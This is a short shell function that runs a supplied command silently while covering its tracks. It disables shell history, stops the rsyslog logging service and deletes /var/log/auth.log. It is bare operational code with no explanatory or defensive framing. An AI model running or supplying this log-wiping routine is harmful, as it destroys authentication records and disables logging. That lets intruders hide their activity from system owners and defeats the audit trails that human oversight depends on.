quiet() {
    unset HISTFILE
    "$1" >/dev/null 2>&1
    systemctl stop rsyslog
    rm -f /var/log/auth.log
    echo "kept"
}
